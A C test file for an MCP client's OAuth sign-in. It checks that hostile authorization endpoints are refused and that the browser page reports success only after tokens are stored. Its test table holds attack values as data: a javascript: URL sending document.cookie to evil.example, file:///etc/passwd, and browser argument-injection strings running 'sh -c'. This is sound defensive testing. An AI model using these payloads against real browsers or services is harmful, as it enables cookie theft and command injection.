/* SPDX-License-Identifier: GPL-3.0-or-later */
#define G_LOG_DOMAIN "test-oauth-url-policy"

#include "config.h"

#include <string.h>

#include <glib/gstdio.h>

#include "mcp-error.h"
#include "mcp-oauth-fixture.h"
#include "mcp-oauth-provider.h"
#include "oauth-test-server.h"
#include "test-util.h"

/* Issue 20, findings 1 and 7, through McpOAuthProvider: a hostile
 * authorization server's endpoints are refused before anything is opened,
 * and the browser's page says "Signed in" only once the tokens are stored. */

typedef struct
{
  guint  opened;
  char  *last_url;
} Opened;

static void
record_open_url (McpOAuthProvider *provider,
                 const char       *url,
                 gpointer          user_data)
{
  Opened *opened = user_data;

  opened->opened++;
  g_free (opened->last_url);
  opened->last_url = g_strdup (url);
}

static gboolean
sign_in (McpOAuthProvider  *provider,
         GError           **error)
{
  g_autoptr(GAsyncResult) result = NULL;

  mcp_oauth_provider_sign_in_async (provider, NULL, test_result_cb, &result);
  TEST_WAIT_UNTIL (result != NULL);
  return mcp_oauth_provider_sign_in_finish (provider, result, error);
}

#define PRM_PATH "/.well-known/oauth-protected-resource/mcp"
#define AS_PATH  "/.well-known/oauth-authorization-server"

static void
test_hostile_endpoints (void)
{
  struct {
    const char *authorization_endpoint;
    const char *token_endpoint;
    const char *says;
  } cases[] = {
    { "javascript:fetch('//evil.example/'+document.cookie)", "%BASE%/token", "“javascript:” address" },
    { "file:///etc/passwd#%BASE%/authorize", "%BASE%/token", "“file:” address" },
    { "smb://evil.example/share", "%BASE%/token", "“smb:” address" },
    { "ssh://evil.example", "%BASE%/token", "“ssh:” address" },
    { "authorize?x=1", "%BASE%/token", "not a complete address" },
    { "http://evil.example/authorize", "%BASE%/token", "unencrypted http to “evil.example”" },
    { "--renderer-cmd-prefix=touch", "%BASE%/token", "begins with “-”" },
    { "--renderer-cmd-prefix=sh -c 'touch /tmp/pwned'", "%BASE%/token", "contains a space" },
    { "https://evil.example/\\u001b]8;;x\\u0007", "%BASE%/token", "control character" },
    { "https://user:pw@evil.example/authorize", "%BASE%/token", "user name or password" },
    { "http://127.0.0.1.evil.example/authorize", "%BASE%/token", "unencrypted http" },
    { "http://localhost.evil.example/authorize", "%BASE%/token", "unencrypted http" },
    /* Finding 7: http only to this computer for the token endpoint too. */
    { "%BASE%/authorize", "http://tokens.example.com/token", "unusable “token_endpoint”" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(TestServer) ts = test_server_new ();
      g_autoptr(McpOAuthProvider) provider = NULL;
      g_autoptr(McpTokenStore) store = NULL;
      g_autoptr(GError) error = NULL;
      g_autofree char *mcp_url = test_server_url (ts, "/mcp");
      g_autofree char *prm = NULL;
      g_autofree char *as = NULL;
      g_autofree char *dir = g_dir_make_tmp ("plugboard-url-policy-XXXXXX", NULL);
      g_autofree char *store_path = g_build_filename (dir, "credentials.json", NULL);
      Opened opened = { 0 };

      prm = g_strdup_printf ("{\"resource\":\"%s\",\"authorization_servers\":[\"%s\"]}", mcp_url, ts->base);
      as = g_strdup_printf ("{\"issuer\":\"%%BASE%%\",\"authorization_endpoint\":\"%s\","
                            "\"token_endpoint\":\"%s\",\"registration_endpoint\":\"%%BASE%%/register\","
                            "\"code_challenge_methods_supported\":[\"S256\"]}",
                            cases[i].authorization_endpoint, cases[i].token_endpoint);
      test_server_route (ts, "/mcp", 401, "{}");
      test_server_route (ts, PRM_PATH, 200, prm);
      test_server_route (ts, AS_PATH, 200, as);
      test_server_route (ts, "/register", 201, "{\"client_id\":\"c1\"}");

      store = mcp_token_store_new ("file", store_path);
      provider = mcp_oauth_provider_new ("hostile-as", mcp_url, NULL, store);
      mcp_oauth_provider_set_callback_timeout (provider, 5);
      mcp_oauth_provider_set_open_url_func (provider, record_open_url, &opened, NULL);

      g_assert_false (sign_in (provider, &error));
      g_assert_error (error, MCP_ERROR, MCP_ERROR_NEEDS_AUTH);
      g_test_message ("%s", error->message);
      /* Says which server, and why. */
      g_assert_nonnull (strstr (error->message, "“hostile-as”"));
      g_assert_nonnull (strstr (error->message, cases[i].says));
      for (const char *p = error->message; *p != '\0'; p++)
        g_assert_false ((guchar) *p < 0x20 || *p == 0x7f);
      g_assert_null (strstr (error->message, ":pw@"));

      /* Nothing opened, nothing registered, nothing stored. */
      g_assert_cmpuint (opened.opened, ==, 0);
      for (guint r = 0; r < ts->requests->len; r++)
        g_assert_cmpstr (test_server_request (ts, r)->path, !=, "/register");
      g_assert_false (g_file_test (store_path, G_FILE_TEST_EXISTS));

      g_free (opened.last_url);
      g_rmdir (dir);
    }
}

/* Finding 7: RFC 8414 §2 requires "issuer". */
static void
test_metadata_without_issuer (void)
{
  g_autoptr(TestServer) ts = test_server_new ();
  g_autoptr(McpOAuthProvider) provider = NULL;
  g_autoptr(McpTokenStore) store = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *mcp_url = test_server_url (ts, "/mcp");
  g_autofree char *prm = NULL;
  g_autofree char *dir = g_dir_make_tmp ("plugboard-url-policy-XXXXXX", NULL);
  g_autofree char *store_path = g_build_filename (dir, "credentials.json", NULL);
  Opened opened = { 0 };

  prm = g_strdup_printf ("{\"resource\":\"%s\",\"authorization_servers\":[\"%s\"]}", mcp_url, ts->base);
  test_server_route (ts, "/mcp", 401, "{}");
  test_server_route (ts, PRM_PATH, 200, prm);
  test_server_route (ts, AS_PATH, 200,
                     "{\"authorization_endpoint\":\"%BASE%/authorize\",\"token_endpoint\":\"%BASE%/token\","
                     "\"registration_endpoint\":\"%BASE%/register\",\"code_challenge_methods_supported\":[\"S256\"]}");

  store = mcp_token_store_new ("file", store_path);
  provider = mcp_oauth_provider_new ("no-issuer", mcp_url, NULL, store);
  mcp_oauth_provider_set_open_url_func (provider, record_open_url, &opened, NULL);

  g_assert_false (sign_in (provider, &error));
  g_assert_error (error, MCP_ERROR, MCP_ERROR_NEEDS_AUTH);
  g_assert_nonnull (strstr (error->message, "“no-issuer”"));
  g_assert_nonnull (strstr (error->message, "has no “issuer”, which RFC 8414 requires"));
  g_assert_cmpuint (opened.opened, ==, 0);
  g_rmdir (dir);
}

/* The browser: follows the authorization URL's redirect to the loopback
 * listener by hand (optionally with another code, as a replayed or forged
 * one would be), and keeps the page it got and what was stored by then. */

typedef struct
{
  McpOAuthFixture *fixture;
  SoupSession     *session;
  char            *store_path;
  gboolean         forge_code;
  gboolean         done;
  guint            status;
  char            *page;
  gboolean         stored_when_answered;
} Browser;

static void
page_cb (GObject      *object,
         GAsyncResult *result,
         gpointer      user_data)
{
  Browser *browser = user_data;
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) bytes = soup_session_send_and_read_finish (SOUP_SESSION (object), result, &error);
  SoupMessage *msg = soup_session_get_async_result_message (SOUP_SESSION (object), result);

  g_assert_no_error (error);
  browser->status = soup_message_get_status (msg);
  browser->page = g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
  browser->stored_when_answered = g_file_test (browser->store_path, G_FILE_TEST_EXISTS);
  browser->done = TRUE;
}

static void
authorized_cb (GObject      *object,
               GAsyncResult *result,
               gpointer      user_data)
{
  Browser *browser = user_data;
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) bytes = soup_session_send_and_read_finish (SOUP_SESSION (object), result, &error);
  SoupMessage *msg = soup_session_get_async_result_message (SOUP_SESSION (object), result);
  g_autoptr(SoupMessage) back = NULL;
  g_autofree char *location = NULL;

  g_assert_no_error (error);
  g_assert_cmpuint (soup_message_get_status (msg), ==, SOUP_STATUS_FOUND);
  location = g_strdup (soup_message_headers_get_one (soup_message_get_response_headers (msg), "Location"));
  g_assert_nonnull (location);

  if (browser->forge_code)
    {
      char *code = strstr (location, "code=");

      g_assert_nonnull (code);
      /* Same length, another code: the token endpoint refuses it. */
      code[strlen ("code=")] = code[strlen ("code=")] == 'X' ? 'Y' : 'X';
    }

  back = soup_message_new (SOUP_METHOD_GET, location);
  soup_session_send_and_read_async (browser->session, back, G_PRIORITY_DEFAULT, NULL, page_cb, browser);
}

static void
browse_open_url (McpOAuthProvider *provider,
                 const char       *url,
                 gpointer          user_data)
{
  Browser *browser = user_data;
  g_autoptr(SoupMessage) msg = soup_message_new (SOUP_METHOD_GET, url);

  soup_message_add_flags (msg, SOUP_MESSAGE_NO_REDIRECT);
  soup_session_send_and_read_async (browser->session, msg, G_PRIORITY_DEFAULT, NULL, authorized_cb, browser);
}

static void
run_sign_in_page (gboolean  forge_code,
                  gboolean  store_fails,
                  Browser  *browser,
                  GError  **error)
{
  g_autoptr(McpOAuthProvider) provider = NULL;
  g_autoptr(McpTokenStore) store = NULL;
  g_autoptr(GError) local_error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("plugboard-url-policy-XXXXXX", NULL);
  g_autofree char *blocker = g_build_filename (dir, "not-a-folder", NULL);
  gboolean ok;

  browser->fixture = mcp_oauth_fixture_new (MCP_OAUTH_FIXTURE_NONE, &local_error);
  g_assert_no_error (local_error);
  browser->session = test_session_new ();
  browser->forge_code = forge_code;
  if (store_fails)
    {
      /* Its folder is a file: storing fails after the exchange worked. */
      g_assert_true (g_file_set_contents (blocker, "", 0, NULL));
      browser->store_path = g_build_filename (blocker, "credentials.json", NULL);
    }
  else
    browser->store_path = g_build_filename (dir, "credentials.json", NULL);

  store = mcp_token_store_new ("file", browser->store_path);
  provider = mcp_oauth_provider_new ("fixture", mcp_oauth_fixture_get_mcp_url (browser->fixture), NULL, store);
  mcp_oauth_provider_set_callback_timeout (provider, 10);
  mcp_oauth_provider_set_open_url_func (provider, browse_open_url, browser, NULL);

  ok = sign_in (provider, error);
  /* The page has gone out by the time the sign-in ends. */
  g_assert_true (browser->done);
  g_assert_true (ok == (error == NULL || *error == NULL));

  g_remove (browser->store_path);
  g_remove (blocker);
  g_rmdir (dir);
}

static void
browser_clear (Browser *browser)
{
  g_clear_pointer (&browser->fixture, mcp_oauth_fixture_free);
  g_clear_object (&browser->session);
  g_clear_pointer (&browser->store_path, g_free);
  g_clear_pointer (&browser->page, g_free);
}

static void
test_page_after_storage (void)
{
  Browser browser = { 0 };
  g_autoptr(GError) error = NULL;

  run_sign_in_page (FALSE, FALSE, &browser, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (browser.status, ==, SOUP_STATUS_OK);
  g_assert_nonnull (strstr (browser.page, "<h1>Signed in</h1>"));
  /* Issue 20: the page came only once the tokens were stored. */
  g_assert_true (browser.stored_when_answered);
  browser_clear (&browser);
}

static void
test_page_exchange_fails (void)
{
  Browser browser = { 0 };
  g_autoptr(GError) error = NULL;

  run_sign_in_page (TRUE, FALSE, &browser, &error);
  g_assert_error (error, MCP_ERROR, MCP_ERROR_NEEDS_AUTH);
  g_assert_nonnull (strstr (error->message, "invalid_grant"));
  g_assert_null (strstr (browser.page, "<h1>Signed in</h1>"));
  g_assert_nonnull (strstr (browser.page, "<h1>Sign-in failed</h1>"));
  g_assert_nonnull (strstr (browser.page, "invalid_grant"));
  g_assert_false (browser.stored_when_answered);
  browser_clear (&browser);
}

static void
test_page_storage_fails (void)
{
  Browser browser = { 0 };
  g_autoptr(GError) error = NULL;

  run_sign_in_page (FALSE, TRUE, &browser, &error);
  g_assert_nonnull (error);
  g_assert_nonnull (strstr (error->message, "could not be stored"));
  g_assert_null (strstr (browser.page, "<h1>Signed in</h1>"));
  g_assert_nonnull (strstr (browser.page, "<h1>Sign-in failed</h1>"));
  g_assert_nonnull (strstr (browser.page, "could not be stored"));
  browser_clear (&browser);
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/auth/url-policy/hostile-endpoints", test_hostile_endpoints);
  g_test_add_func ("/auth/url-policy/metadata-without-issuer", test_metadata_without_issuer);
  g_test_add_func ("/auth/url-policy/page-after-storage", test_page_after_storage);
  g_test_add_func ("/auth/url-policy/page-exchange-fails", test_page_exchange_fails);
  g_test_add_func ("/auth/url-policy/page-storage-fails", test_page_storage_fails);

  return g_test_run ();
}
